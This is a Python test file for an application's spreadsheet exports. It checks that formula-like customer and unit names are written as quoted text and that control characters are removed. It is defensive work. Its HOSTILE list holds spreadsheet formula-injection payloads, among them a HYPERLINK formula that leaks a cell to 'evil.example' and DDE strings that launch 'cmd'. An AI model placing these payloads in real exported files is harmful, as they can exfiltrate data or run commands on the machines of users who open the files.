"""Every export writes its cells through core/spreadsheet.py: what a user typed never becomes a live
formula, a control character never breaks the workbook, numbers stay numbers."""

import io
from decimal import Decimal

from httpx import AsyncClient
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy.ext.asyncio import AsyncSession

from anchang.core import spreadsheet
from anchang.core.roles import ProjectRole
from tests import factories as f
from tests.customers import factories as cf
from tests.inventory import factories as inv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = "王\x07先\x01生"


def _read_back(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def _assert_text(value: object, cells: dict[str, tuple[str, bool]]) -> None:
    """`value` (cleaned) is in the workbook as a quote-prefixed text cell, not a formula."""
    expected = spreadsheet.clean(str(value)).replace("\r", "\n")  # XML reads a CR back as a LF
    assert expected in cells, (expected, list(cells))
    data_type, quoted = cells[expected]
    assert data_type == "s" and quoted, expected


def _cells(book: Workbook) -> dict[str, tuple[str, bool]]:
    found = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    assert not ILLEGAL_CHARACTERS_RE.search(c.value), c.value
                    found[c.value] = (c.data_type, bool(c.quotePrefix))
                if c.data_type == "f":
                    raise AssertionError(f"a formula at {c.coordinate}: {c.value}")
    return found


class TestCells:
    def test_formula_like_strings_are_quoted_text_and_others_are_left_alone(self) -> None:
        book = Workbook(write_only=True)
        sheet = book.create_sheet("s")
        spreadsheet.append(sheet, [*HOSTILE, CONTROL, "王先生", Decimal("1250000.00"), 7])
        buffer = io.BytesIO()
        book.save(buffer)
        read = _read_back(buffer.getvalue())
        cells = _cells(read)
        for value in HOSTILE:
            _assert_text(value, cells)
        assert cells["王先生"] == ("s", False) and "王先生" in cells
        row = next(read.active.iter_rows(values_only=True))
        assert row[-2:] == (1250000, 7)  # numbers stay numbers

    def test_sheet_titles_lose_what_a_title_cannot_hold(self) -> None:
        used: set[str] = set()
        assert spreadsheet.sheet_title("1\x07号楼[A]", used) == "1号楼A"
        assert spreadsheet.sheet_title("1号楼A", used) == "1号楼A-2"
        assert spreadsheet.sheet_title("\x01", used) == "Sheet"


class TestExports:
    async def test_customers_xlsx_with_hostile_names(
        self, client: AsyncClient, session: AsyncSession
    ) -> None:
        org = await f.create_organization(session)
        project = await f.create_project(session, organization=org)
        owner, _ = await f.create_member(session, project=project, role=ProjectRole.consultant)
        _, headers = await f.create_member(session, project=project, role=ProjectRole.site_manager)
        for name in [*HOSTILE, CONTROL]:
            customer = await cf.create_customer(session, project=project, owner=owner, name=name)
            customer.budget = Decimal("2000000.00")
        await session.flush()
        r = await client.get(f"/projects/{project.id}/customers.xlsx", headers=headers)
        assert r.status_code == 200, r.text
        book = _read_back(r.content)
        cells = _cells(book)
        for name in HOSTILE:
            _assert_text(name, cells)
        assert "王先生" in cells  # the control characters are gone, the name is left
        budgets = [row[5] for row in book.active.iter_rows(min_row=2, values_only=True)]
        assert budgets == [2000000] * (len(HOSTILE) + 1)  # money stays a number

    async def test_board_xlsx_with_hostile_names(self, client: AsyncClient, session: AsyncSession) -> None:
        org = await f.create_organization(session)
        project = await f.create_project(session, organization=org)
        _, headers = await f.create_member(session, project=project, role=ProjectRole.site_manager)
        building = await inv.create_building(session, project=project, name="=1号楼\x07")
        for position, code in enumerate(['=HYPERLINK("http://evil","x")', "@1-\x01101"], start=1):
            await inv.create_unit(session, building=building, floor=10, position=position, code=code)
        r = await client.get(f"/projects/{project.id}/board.xlsx", headers=headers)
        assert r.status_code == 200, r.text
        book = _read_back(r.content)
        assert book.sheetnames == ["=1号楼"]
        cells = _cells(book)
        assert any(v.startswith('=HYPERLINK("http://evil","x")\n') for v in cells)
        assert any(v.startswith("@1-101\n") for v in cells)
        _assert_text(next(v for v in cells if v.startswith("=HYPERLINK")), cells)
